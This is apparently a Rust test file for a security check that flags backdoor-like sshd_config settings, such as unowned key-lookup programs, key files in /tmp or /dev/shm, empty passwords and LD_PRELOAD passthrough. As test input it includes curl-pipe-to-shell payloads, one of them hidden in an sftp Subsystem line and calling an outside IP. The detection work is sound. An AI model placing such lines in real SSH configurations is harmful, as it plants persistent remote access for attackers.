use crate::testing::{check, findings};
const NAME: &str = "login/sshd-setting";
const HOST: &str = "package sssd 1 owns /usr/bin/sss_ssh_authorizedkeys\npackage base 1 owns /bin/sh,/usr/bin/cat,/usr/bin/python3\n\
    package openssh-server 1 owns /etc/ssh/sshd_config,/usr/lib/openssh/sftp-server\n\
    /usr/lib/x/keys : mode=100755\n/usr/local/bin/keys : mode=100755\n/dev/shm/k : mode=100755\n/opt/.k/k : mode=100755\n";

fn said(lines: &str) -> Vec<String> {
    findings(
        NAME,
        &format!(
            "{HOST}/etc/ssh/sshd_config.d/10.conf = {lines}\\n\n/etc/ssh/sshd_config = Include /etc/ssh/sshd_config.d/*.conf\\n"
        ),
        &[],
    )
}
#[track_caller]
fn is(level: &str, lines: &str) {
    let said = said(lines);
    assert!(said.len() == 1 && said[0].starts_with(level), "{lines}: {said:?}");
}
#[track_caller]
fn quiet(lines: &str) {
    assert_eq!(said(lines), [""; 0], "{lines}");
}

#[test]
fn a_program_of_nobody_that_hands_out_keys_is_loud_and_a_packaged_one_quiet() {
    assert_eq!(
        said("AuthorizedKeysCommand /usr/lib/x/keys %u\\nAuthorizedKeysCommandUser nobody"),
        ["suspicious: /etc/ssh/sshd_config.d/10.conf:1 asks /usr/lib/x/keys for keys, which no package owns"]
    );
    quiet("AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\\nAuthorizedKeysCommandUser nobody");
}
#[test]
fn in_all_its_shapes() {
    for lines in [
        "AuthorizedKeysCommand /usr/local/lib/none\\nAuthorizedKeysCommandUser root\\nPort 22\\nPort 2222",
        "authorizedkeyscommand=/usr/local/bin/keys\\nAuthorizedKeysCommandUser=root",
        "AuthorizedKeysCommand \"/dev/shm/k\" %u",
        "AuthorizedKeysCommand /opt/.k/k",
        "AuthorizedPrincipalsCommand /usr/lib/x/keys",
        "AuthorizedKeysCommand /bin/sh -c x",
        "AuthorizedKeysCommand /usr/bin/python3 /srv/x.py",
        "AuthorizedKeysCommand /usr/bin/cat /tmp/k",
        "Match User root\\nAuthorizedKeysCommand /usr/lib/x/keys",
    ] {
        is("suspicious: ", lines);
    }
}
#[test]
fn an_admins_script_that_is_not_root_is_unusual() {
    is("unusual: ", "AuthorizedKeysCommand /usr/local/bin/keys %u\\nAuthorizedKeysCommandUser nobody");
    is("unusual: ", "AuthorizedKeysCommand /usr/bin/cat /etc/ssh/keys/%u");
}
#[test]
fn the_first_value_counts() {
    quiet("AuthorizedKeysCommand none\\nAuthorizedKeysCommand /usr/lib/x/keys");
    quiet("PermitEmptyPasswords no\\nPermitEmptyPasswords yes");
    is("suspicious: ", "PermitEmptyPasswords yes\\nPermitEmptyPasswords no");
    is("suspicious: ", "PermitEmptyPasswords no\\nMatch User x\\nPermitEmptyPasswords yes");
}
#[test]
fn files_of_keys() {
    for place in ["/tmp/k", "/dev/shm/%u", "/var/lib/.x/%u", ".ssh/authorized_keys /var/tmp/.k", ".../k"] {
        is("suspicious: ", &format!("AuthorizedKeysFile {place}"));
    }
    for place in ["/etc/ssh/all_keys", ".cache/k", "%h/.config/k .ssh/authorized_keys"] {
        is("unusual: ", &format!("AuthorizedKeysFile {place}"));
    }
    for place in [
        ".ssh/authorized_keys",
        "/etc/ssh/authorized_keys/%u",
        "%h/.ssh/authorized_keys .ssh/authorized_keys2",
        "none",
        "/home/keys/%U",
    ] {
        quiet(&format!("AuthorizedKeysFile {place}"));
    }
}
#[test]
fn other_doors() {
    for lines in [
        "PermitEmptyPasswords yes",
        "AuthenticationMethods none",
        "TrustedUserCAKeys /tmp/ca.pub",
        "ForceCommand curl x | sh",
        "Subsystem sftp /dev/shm/k",
        "Subsystem sftp /bin/sh -c 'curl -s 198.51.100.7/k|sh; exec /usr/lib/openssh/sftp-server'",
        "Subsystem x /usr/lib/x/keys",
        "AcceptEnv LANG LD_PRELOAD",
        "PermitUserEnvironment LD_*",
    ] {
        is("suspicious: ", lines);
    }
    for lines in [
        "PermitUserEnvironment yes",
        "StrictModes no",
        "IgnoreRhosts no",
        "LogLevel QUIET",
        "AcceptEnv *",
        "TrustedUserCAKeys /home/anna/ca.pub",
    ] {
        is("unusual: ", lines);
    }
}
#[test]
fn settings_from_an_odd_place() {
    let host = "/etc/ssh/sshd_config = Include /dev/shm/.c\\n\n/dev/shm/.c = Port 2222\\nBanner none\\n\n";
    check(NAME, host, &["suspicious: /dev/shm/.c:1 is a part of sshd's settings, where none lie"]);
}
#[test]
fn without_a_package_database_packaged_places_are_quiet() {
    let host = "/usr/bin/sss : mode=100755\n/etc/ssh/sshd_config = AuthorizedKeysCommand /usr/bin/sss\\n";
    check(NAME, host, &[]);
    let host = host.replace("/usr/bin", "/opt/bin");
    assert_eq!(findings(NAME, &host, &[]).len(), 1);
}
#[test]
fn an_admins_choices_are_quiet() {
    for lines in [
        "PermitRootLogin yes",
        "Port 22\\nPort 2222",
        "PasswordAuthentication yes\\nUsePAM no",
        "Subsystem sftp /usr/lib/openssh/sftp-server -f AUTHPRIV",
        "Subsystem sftp internal-sftp",
        "Match Group sftp\\nForceCommand internal-sftp\\nChrootDirectory /srv",
        "TrustedUserCAKeys /etc/ssh/ca.pub",
        "AcceptEnv LANG LC_* COLORTERM",
        "PermitUserEnvironment no",
        "AllowUsers anna bob@10.0.0.0/8",
        "ForceCommand /usr/local/bin/menu > /dev/null",
        "LogLevel VERBOSE",
    ] {
        quiet(lines);
    }
    check(NAME, "/etc/ssh/sshd_config = PermitRootLogin no\\n", &[]);
}
